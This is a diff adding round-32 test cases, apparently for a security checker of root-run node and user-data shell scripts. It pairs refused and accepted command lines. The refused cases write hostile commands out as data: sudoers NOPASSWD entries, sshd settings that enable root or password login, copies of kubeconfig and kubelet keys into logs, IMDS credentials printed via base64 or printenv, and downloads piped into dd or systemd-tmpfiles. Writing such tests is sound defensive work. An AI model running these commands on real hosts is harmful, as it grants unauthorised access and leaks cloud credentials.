@@ -1289,3 +1289,153 @@ const round31: ReadCase[] = [
 ];
 
 describeReads("root reads: round 31 node neighbours (rootReads.ts, shell.ts, userData.ts)", round31);
+
+// Round 32: neighbours of redteam32-node/nsec.test.ts (tmpfiles.d writes and copies, dd of=, systemd-tmpfiles on
+// stdin, xargs, printed credentials through pipes, tracing and the environment, digests of node files), both ways.
+const tmpfilesLine = (line: string) => shell(`echo '${line}' > /etc/tmpfiles.d/x.conf`);
+const round32: ReadCase[] = [
+    // Refused.
+    {
+        name: "a tmpfiles w+ line appending a password login to sshd",
+        reads: () => tmpfilesLine("w+ /etc/ssh/sshd_config - - - - PasswordAuthentication yes"),
+        refused: /PasswordAuthentication|sshd/,
+    },
+    {
+        name: "a tmpfiles f^ line writing sudoers from a credential",
+        reads: () => tmpfilesLine("f^ /etc/sudoers.d/ops 0440 root root - ops-sudoers"),
+        refused: /sudoers/,
+    },
+    {
+        name: "a tmpfiles C line copying the kubelet kubeconfig into /var/log",
+        reads: () => tmpfilesLine("C /var/log/kubeconfig - - - - /var/lib/kubelet/kubeconfig"),
+        refused: /kubeconfig/,
+    },
+    {
+        name: "a tmpfiles C line copying a pod's file to a node unit",
+        reads: () => tmpfilesLine("C /etc/systemd/system/x.service - - - - /data/x.service"),
+        refused: /\/data\/x\.service/,
+    },
+    {
+        name: "printf | dd of= a sudoers drop-in",
+        reads: () => shell("printf 'ops ALL=(ALL) NOPASSWD:ALL\\n' | dd of=/etc/sudoers.d/ops"),
+        refused: /sudoers/,
+    },
+    {
+        name: "curl | dd of= sshd_config (content unknown)",
+        reads: () => shell("curl -s https://example.com/sshd | dd of=/etc/ssh/sshd_config"),
+        refused: /sshd_config/,
+    },
+    {
+        name: "dd if=/tmp/downloaded of=/etc/ssh/sshd_config",
+        reads: () =>
+            shell("curl -so /tmp/downloaded https://example.com/x", "dd if=/tmp/downloaded of=/etc/ssh/sshd_config"),
+        refused: /sshd_config/,
+    },
+    {
+        name: "a heredoc fed to dd of= an sshd drop-in",
+        reads: () => shell("dd of=/etc/ssh/sshd_config.d/x.conf <<'EOF'", "PermitRootLogin yes", "EOF"),
+        refused: /PermitRootLogin/,
+    },
+    {
+        name: "a download piped to systemd-tmpfiles --create -",
+        reads: () => shell("curl -s https://example.com/t.conf | systemd-tmpfiles --create -"),
+        refused: /systemd-tmpfiles/,
+    },
+    {
+        name: "printf of a data path piped to xargs bash",
+        reads: () => shell("printf '%s\\n' /data/hook.sh | xargs bash"),
+        refused: /\/data\/hook\.sh/,
+    },
+    {
+        name: "IMDS credentials piped to base64",
+        reads: () =>
+            shell("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role | base64"),
+        refused: /cloud-init-output/,
+    },
+    {
+        name: "an ECR password captured under #!/bin/bash -x",
+        reads: () =>
+            userDataOpenings([{ text: "#!/bin/bash -x\npw=$(aws ecr get-login-password)\n", base64: false }]).map(
+                o => o.what,
+            ),
+        refused: /cloud-init-output/,
+    },
+    {
+        name: "set -o xtrace then a captured STS token",
+        reads: () => shell("set -o xtrace", "t=$(aws sts get-session-token)"),
+        refused: /cloud-init-output/,
+    },
+    {
+        name: "credentials exported from a substitution, then printenv",
+        reads: () =>
+            shell(
+                'export AWS_SECRET_ACCESS_KEY="$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r | jq -r .SecretAccessKey)"',
+                "printenv",
+            ),
+        refused: /environment it prints/,
+    },
+    {
+        name: "cat of the kubelet's client key into /var/log",
+        reads: () => shell("cat /var/lib/kubelet/pki/kubelet-client-current.pem > /var/log/k.pem"),
+        refused: /kubelet-client-current/,
+    },
+    // Accepted.
+    {
+        name: "tmpfiles d and f lines inside data directories",
+        reads: () => tmpfilesLine("f /data/validator/ready 0644 10001 10001 - ok"),
+    },
+    {
+        name: "a tmpfiles f line writing an sshd hardening drop-in",
+        reads: () => tmpfilesLine("f /etc/ssh/sshd_config.d/10-hard.conf 0600 root root - PasswordAuthentication no"),
+    },
+    {
+        name: "tmpfiles d lines on stdin",
+        reads: () =>
+            shell(
+                "printf 'd /run/spire 0755 root root -\\nd /data/validator 0750 10001 10001 -\\n' | systemd-tmpfiles --create -",
+            ),
+    },
+    { name: "dd if=/dev/zero of=/swapfile", reads: () => shell("dd if=/dev/zero of=/swapfile bs=1M count=2048") },
+    {
+        name: "fallocate a reservation file in /data",
+        reads: () => shell("fallocate -l 8G /data/validator/ledger.reserve"),
+    },
+    { name: "xargs mkdir of data paths", reads: () => shell("printf '%s\\n' /data/a /data/b | xargs -r mkdir -p") },
+    {
+        name: "waiting for the instance profile (the role listing, to /dev/null)",
+        reads: () =>
+            shell(
+                "until curl -sf http://169.254.169.254/latest/meta-data/iam/security-credentials/ >/dev/null 2>&1; do sleep 2; done",
+            ),
+    },
+    {
+        name: "an ECR password piped to nerdctl login --password-stdin",
+        reads: () =>
+            shell(
+                "aws ecr get-login-password | nerdctl login --username AWS --password-stdin 111111111111.dkr.ecr.eu-west-1.amazonaws.com",
+            ),
+    },
+    {
+        name: "a captured token without tracing, set +x after set -x",
+        reads: () => shell("set -x", "set +x", "pw=$(aws ecr get-login-password)"),
+    },
+    { name: "env printed with no credentials in it", reads: () => shell("env | sort > /var/log/env.log") },
+    {
+        name: "sha256sum of the kubelet kubeconfig to /var/log",
+        reads: () => shell("sha256sum /var/lib/kubelet/kubeconfig >> /var/log/node-bootstrap.log"),
+    },
+    {
+        name: "the cluster CA copied into the trust store and into /var/log",
+        reads: () =>
+            shell(
+                "cp /etc/kubernetes/pki/ca.crt /etc/pki/ca-trust/source/anchors/eks.crt",
+                "cp /etc/kubernetes/pki/ca.crt /var/log/eks-ca.crt",
+            ),
+    },
+    {
+        name: "find / -exec rpm -qf (CIS SUID audit)",
+        reads: () => shell("find / -xdev -type f -perm -4000 -exec rpm -qf {} \\; > /var/log/suid.log"),
+    },
+];
+
+describeReads("root reads: round 32 node neighbours (rootReads.ts, userData.ts)", round32);
